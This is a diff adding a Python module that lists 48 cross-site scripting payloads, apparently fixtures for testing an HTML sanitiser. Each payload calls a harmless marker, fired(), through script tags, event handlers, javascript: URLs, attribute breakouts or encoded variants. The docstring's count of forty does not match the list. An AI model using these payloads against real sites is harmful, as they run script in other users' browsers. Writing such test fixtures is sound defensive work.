@@ -1,0 +1,58 @@
+"""Forty ways in which markup has run scripts in pages that showed other people's texts.
+
+`fired()` is what each of them would call.
+"""
+
+from __future__ import annotations
+
+CALL = "fired()"
+PAYLOADS = (
+    f"<script>{CALL}</script>",
+    f"<ScRiPt src=data:,{CALL}></sCrIpT>",
+    f"<script>{CALL}//",
+    f"</title><script>{CALL}</script>",
+    f"</textarea><script>{CALL}</script>",
+    f"</style><script>{CALL}</script>",
+    f"</template><script>{CALL}</script>",
+    f"--><script>{CALL}</script><!--",
+    f"]]><script>{CALL}</script>",
+    f"<<script>{CALL}//<</script>",
+    f"<img src=x onerror={CALL}>",
+    f"<img src=x onerror='{CALL}'//",
+    f'<img src="x`" onerror="{CALL}">',
+    f"<img/src=x/onerror={CALL}>",
+    f"<IMG SRC=x OnErRoR = {CALL} >",
+    f"<image src=x onerror={CALL}>",
+    f"<svg onload={CALL}>",
+    f"<svg/onload={CALL}>",
+    f"<svg><script>{CALL}</script></svg>",
+    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
+    f"<math><mtext><style><img src=x onerror={CALL}></style></mtext></math>",
+    f"<math href='javascript:{CALL}'>x</math>",
+    f"<body onload={CALL}>",
+    f"<iframe src='javascript:{CALL}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
+    f"<object data='javascript:{CALL}'></object>",
+    f"<embed src='javascript:{CALL}'>",
+    f"<video><source onerror={CALL}></video>",
+    f"<audio src=x onerror={CALL}></audio>",
+    f"<details open ontoggle={CALL}>",
+    f"<input autofocus onfocus={CALL}>",
+    f"<select autofocus onfocus={CALL}>",
+    f"<marquee onstart={CALL}>x</marquee>",
+    f"<form><button formaction='javascript:{CALL}'>x</button></form>",
+    f"<base href='javascript:{CALL}//'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
+    f"<link rel=stylesheet href='javascript:{CALL}'>",
+    f'" autofocus onfocus={CALL} x="',
+    f"' onmouseover='{CALL}",
+    f"javascript:{CALL}",
+    f"java\tscript:{CALL}",
+    f"data:text/html,<script>{CALL}</script>",
+    f"{{{{ {CALL} }}}}",
+    f"${{{CALL}}}",
+    f"&lt;script&gt;{CALL}&lt;/script&gt;",
+    f"&#x3C;img src=x onerror={CALL}&#x3E;",
+    f"\u003cscript\u003e{CALL}\u003c/script\u003e",
+)
